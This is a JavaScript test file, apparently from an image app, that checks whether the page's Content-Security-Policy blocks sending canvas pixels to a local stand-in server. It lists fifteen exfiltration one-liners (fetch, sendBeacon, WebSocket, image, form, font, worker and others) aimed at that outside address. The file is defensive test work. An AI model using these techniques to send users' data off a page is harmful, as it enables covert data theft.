// "Images never leave this device": a picture's bytes are sent to another address by every way that a
// policy of the page can close, and nothing arrives. What the page says about it is exactly that.

import assert from 'node:assert/strict';
import { readFileSync, readdirSync } from 'node:fs';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';
import { serve } from '../../tools/serve.mjs';
import { draw, errorText, reading, ready, setUp } from './helpers.mjs';

const site = setUp({ policy: true });

/** @type {string[]} What has arrived elsewhere. */
const arrived = [];
const elsewhere = createServer((request, response) => {
  arrived.push(`${request.method} ${request.url}`);
  response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Cross-Origin-Resource-Policy': 'cross-origin' });
  response.end();
});
let address = '';
before(() => new Promise((resolve) => {
  elsewhere.on('upgrade', (request, socket) => {
    arrived.push(`UPGRADE ${request.url}`);
    socket.destroy();
  });
  elsewhere.listen(0, '127.0.0.1', () => {
    address = `127.0.0.1:${/** @type {import('node:net').AddressInfo} */ (elsewhere.address()).port}`;
    resolve(undefined);
  });
}));
after(() => elsewhere.close());

/** Each tries to send `data` to `to` from the page. @type {Record<string, string>} */
const ways = {
  fetch: "await fetch('http://' + to, { method: 'POST', body: data, mode: 'no-cors' })",
  XMLHttpRequest: "const request = new XMLHttpRequest(); request.open('POST', 'http://' + to); request.send(data)",
  beacon: "navigator.sendBeacon('http://' + to, data)",
  image: "new Image().src = 'http://' + to + '/?' + data",
  form: "const form = document.createElement('form'); Object.assign(form, { method: 'post', action: 'http://' + to, target: '_blank' }); document.body.append(form); form.submit()",
  WebSocket: "new WebSocket('ws://' + to + '/?' + data)",
  EventSource: "new EventSource('http://' + to + '/?' + data)",
  frame: "const frame = document.createElement('iframe'); frame.src = 'http://' + to + '/?' + data; document.body.append(frame)",
  script: "const script = document.createElement('script'); script.src = 'http://' + to + '/?' + data; document.body.append(script)",
  style: "const link = document.createElement('link'); Object.assign(link, { rel: 'stylesheet', href: 'http://' + to + '/?' + data }); document.head.append(link)",
  background: "document.body.style.background = 'url(http://' + to + '/?' + data + ')'",
  video: "const video = document.createElement('video'); video.src = 'http://' + to + '/?' + data; video.load()",
  font: "document.fonts.add(new FontFace('elsewhere', 'url(http://' + to + '/?' + data + ')')); await document.fonts.load('12px elsewhere')",
  'a worker': "new Worker('http://' + to + '/?' + data)",
  'a worker of a Blob': "new Worker(URL.createObjectURL(new Blob(['fetch(\"http://' + to + '\")'])))",
};

test('a picture cannot be sent anywhere else', async () => {
  const { page, close } = await site.open();
  await ready(page);
  await draw(page, 3);
  assert.equal((await reading(page)).label, '3');
  await page.evaluate(() => {
    /** @type {string[]} */
    const directives = [];
    Object.assign(globalThis, { directives });
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => directives.push(effectiveDirective));
  });
  for (const [name, code] of Object.entries(ways)) {
    // As text, which DevTools run whatever the policy says of eval.
    const violated = await page.evaluate(`(async () => {
      const [to, before] = [${JSON.stringify(address)}, directives.length];
      const data = document.getElementById('pad').toDataURL().slice(-800);
      try { ${code} } catch (error) { if (error.name === 'SecurityError') directives.push('same origin'); }
      for (let i = 0; i < 40 && directives.length === before; ++i) await new Promise((next) => setTimeout(next, 50));
      return directives.slice(before);
    })()`);
    assert.ok(/** @type {string[]} */ (violated).length > 0, `${name} was not refused by the policy`);
  }
  assert.deepEqual(arrived, []);
  await page.locator('#facts summary').click();
  assert.match(await page.locator('#fact-list').innerText(), /Connections\s+only to its own address and, for models, to huggingface\.co/);
  await close();
});

const dist = new URL('../../dist/', import.meta.url);
/** Files that the page or the library starts workers from. */
const workers = () => [...new Set(readdirSync(dist, { recursive: true, encoding: 'utf8' })
  .filter((name) => name.endsWith('.js') && !/^(vendor|peers)/.test(name))
  .flatMap((name) => [...readFileSync(new URL(name, dist), 'utf8').matchAll(/new Worker\(\s*new URL\(\s*["'`](.+?)["'`]/g)]
    .map(([, target]) => new URL(target, new URL(name, site.url)).pathname.slice(1))))];

/** Those of them that come without the page's policy. @param {import('playwright-core').Page} page */
async function workersWithoutPolicy(page) {
  const all = workers();
  assert.ok(['worker.js', 'tools/worker.js', 'app/measure/compareWorker.js'].every((name) => all.includes(name)), `${all}`);
  return page.evaluate(async (names) => {
    const stated = document.querySelector('meta[http-equiv=Content-Security-Policy]')?.getAttribute('content');
    const policies = await Promise.all(names.map(async (name) => (await fetch(name)).headers.get('Content-Security-Policy')));
    return names.filter((_, at) => policies[at] !== stated);
  }, all);
}

/**
 * What becomes of it, from the engine's worker; those of threads look for work and do nothing else.
 * @param {import('playwright-core').Page} page
 */
async function sendFromWorkers(page) {
  const sending = page.workers().map((worker) => worker.evaluate(
    (to) => fetch(`http://${to}/from-a-worker`, { method: 'POST', body: 'pixels', mode: 'no-cors' }).then(() => 'sent', () => 'refused'), address));
  const first = await Promise.race(sending);
  for (const other of sending) other.catch(() => {});  // ends with the page
  return first;
}

test('nor from the worker that has the pictures', async () => {
  const { page, close } = await site.open();
  await ready(page);
  assert.equal(await sendFromWorkers(page), 'refused');
  assert.deepEqual(arrived, []);
  assert.deepEqual(await workersWithoutPolicy(page), []);
  await close();
});

test('on a host that sends no policy the kept page brings it to its workers', async () => {
  const server = await serve({ port: 0 });
  const { page, close } = await site.open(server.url, { serviceWorkers: 'allow' });
  try {
    await ready(page);
    await page.evaluate(async () => { await navigator.serviceWorker.ready; });
    await page.reload();
    await ready(page);
    assert.equal(await sendFromWorkers(page), 'refused');
    assert.deepEqual(arrived, []);
    assert.deepEqual(await workersWithoutPolicy(page), []);
  } finally {
    await close();
    await server.close();
  }
});

test('the policy forbids all that it does not name', () => {
  const html = readFileSync(new URL('../../dist/index.html', import.meta.url), 'utf8');
  const policy = /Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1] ?? '';
  assert.match(policy, /^default-src 'none';/);
  assert.doesNotMatch(policy, /unsafe-inline|'unsafe-eval'|\shttp:|\s\*[\s;]|data:/);
});

test('a model of another address is refused with a hint', async () => {
  const { page, close } = await site.open(`?model=http://${address}/model.onnx`);
  const text = await errorText(page);
  assert.match(text, /only to its own address[\s\S]*huggingface\.co/);
  assert.deepEqual(arrived, []);
  await close();
});
